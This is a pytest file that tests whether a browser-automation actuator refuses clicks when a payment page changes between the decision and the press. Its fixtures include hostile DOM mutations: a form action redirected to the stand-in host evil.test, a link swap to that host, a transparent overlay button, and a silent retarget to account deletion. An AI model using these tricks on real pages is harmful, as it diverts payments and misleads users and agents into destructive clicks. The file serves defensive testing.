"""Pages that change between the decision and the act: no press lands on what was not judged."""

from __future__ import annotations

import itertools
from collections.abc import Callable

import pytest
from browser_stage import BrowserStage
from contract.actuator import named

from actuators.action import Click

pytestmark = [pytest.mark.browser, pytest.mark.timeout(1200)]
Begin = Callable[..., BrowserStage]

BODY = """<form method=post action="/tea" onsubmit="event.preventDefault()"><p id=t>Total 10.00 EUR</p>
<input type=hidden name=amount value=10.00 id=h><label>Name <input id=n name=n value=Ada></label>
<label><input type=checkbox id=c name=c> Gift</label><button id=b>Pay 10.00 EUR</button></form>
<form method=post action="/delete" onsubmit="event.preventDefault()"><button id=d>Delete account</button></form>"""
PAGE = f"""<!doctype html><style>body {{ margin: 20px }} button {{ display: block; margin: 10px 0; width: 200px }}</style>
<div id=all>{BODY}</div><script>
hits = [];
addEventListener('click', (e) => {{
  const b = e.target.closest('button, a, input, label, div');
  const form = b && b.form, by = (id) => document.getElementById(id);
  hits.push([b ? b.innerText : '', form ? form.getAttribute('action') : '', b ? b.getAttribute('formaction') || '' : '',
    form ? [...new FormData(form)].map((p) => p.join('=')).join('&') : '', by('t') ? by('t').innerText : '', b ? b.disabled : 0]);
}}, true);
function reset() {{
  for (const one of [...document.body.children]) if (one.id !== 'all' && one.tagName !== 'SCRIPT') one.remove();
  document.getElementById('all').innerHTML = {BODY!r}; hits = [] }}
</script>"""

CHANGES = {
    "another name": "b.textContent = 'Delete account'",
    "another price": "b.textContent = 'Pay 100.00 EUR'",
    "another total": "t.textContent = 'Total 100.00 EUR'",
    "another recipient": "b.form.action = 'http://evil.test/tea'",
    "an address of its own": "b.setAttribute('formaction', '/delete')",
    "another method": "b.form.method = 'get'",
    "a hidden amount": "h.value = '100.00'",
    "another field": "n.value = 'Eve'",
    "a tick": "c.checked = true",
    "one more field": "b.form.insertAdjacentHTML('beforeend', '<input type=hidden name=tip value=5>')",
    "into another form": "document.querySelector('[action=\"/delete\"]').append(b)",
    "another owner": "document.querySelector('[action=\"/delete\"]').id = 'f2'; b.setAttribute('form', 'f2')",
    "swapped places": "[b.style.order, d.style.order] = [1, 0]; b.before(d)",
    "replaced": "b.outerHTML = '<button id=b>Delete account</button>'",
    "replaced by its like": "b.outerHTML = '<button id=b formaction=\"/delete\">Pay 10.00 EUR</button>'",
    "something over it": "document.body.insertAdjacentHTML('beforeend', '<div style=\"position:fixed;inset:0\">Yes</div>')",
    "something clear over it": "document.body.insertAdjacentHTML('beforeend', '<button style=\"position:fixed;inset:0;opacity:0;width:100%\">Delete</button>')",
    "moved away": "b.style.marginTop = '300px'",
    "hidden": "b.style.display = 'none'",
    "no pointer": "b.style.pointerEvents = 'none'",
    "disabled": "b.disabled = true",
    "no button any more": "b.type = 'button'",
    "a link": "b.outerHTML = '<a id=b href=\"http://evil.test/\">Pay 10.00 EUR</a>'",
    "gone": "b.remove()",
    "everything gone": "document.getElementById('all').innerHTML = ''",
}
MOMENTS = {
    "before": "{}",
    "as the pointer comes": "addEventListener('mousemove', () => {{ {} }}, {{once: true}})",
    "as it enters": "b.addEventListener('mouseenter', () => {{ {} }}, {{once: true}})",
    "as it is over": "b.addEventListener('mouseover', () => {{ {} }}, {{once: true}})",
    "as the frame is drawn": "addEventListener('mousemove', () => requestAnimationFrame(() => {{ {} }}), {{once: true}})",
    "in a moment": "addEventListener('mousemove', () => queueMicrotask(() => {{ {} }}), {{once: true}})",
    "twice": "{0}; b.addEventListener('mouseenter', () => {{ {0} }}, {{once: true}})",
    "and back": "const was = b.outerHTML; {}; setTimeout(() => {{ if (document.getElementById('b')) b.outerHTML = was }}, 5)",
}
BY_ID = "const [b, d, t, h, n, c] = ['b', 'd', 't', 'h', 'n', 'c'].map((id) => document.getElementById(id)); "
JUDGED = ["Pay 10.00 EUR", "/tea", "", "amount=10.00&n=Ada", "Total 10.00 EUR", False]


def swap(stage: BrowserStage, change: str, moment: str) -> tuple[str, list[object]]:
    """One page that changes; the receipt's status, and every press that landed."""
    stage.page.evaluate("reset()")
    seen = stage.actuator.observe()
    action = Click(at=named(seen, "Pay 10.00 EUR").rect.centre)
    target = stage.actuator.target(action, seen)
    permit = stage.mint.permit(action, target)
    stage.page.evaluate(f"() => {{ {BY_ID}{MOMENTS[moment].format(CHANGES[change])} }}")
    receipt = stage.actuator.perform(permit)
    return receipt.status, stage.page.evaluate("hits")


def check(stage: BrowserStage, change: str, moment: str) -> None:
    status, hits = swap(stage, change, moment)
    assert [one for one in hits if one != JUDGED] == [], f"{change}, {moment}: {status}"


def test_there_are_two_hundred() -> None:
    assert len(CHANGES) * len(MOMENTS) == 200


def test_an_unchanged_page_is_pressed(begin: Begin) -> None:
    stage = begin(PAGE)
    stage.page.evaluate("reset()")
    CHANGES["nothing"] = "0"
    try:
        assert swap(stage, "nothing", "before") == ("done", [JUDGED])
    finally:
        del CHANGES["nothing"]


def test_no_press_lands_on_what_changed_in_between(begin: Begin) -> None:
    stage = begin(PAGE)
    for number, change in enumerate(CHANGES):
        check(stage, change, list(MOMENTS)[number % len(MOMENTS)])


@pytest.mark.slow
def test_no_press_lands_on_what_changed_in_any_of_two_hundred(begin: Begin) -> None:
    stage = begin(PAGE)
    for change, moment in itertools.product(CHANGES, MOMENTS):
        check(stage, change, moment)
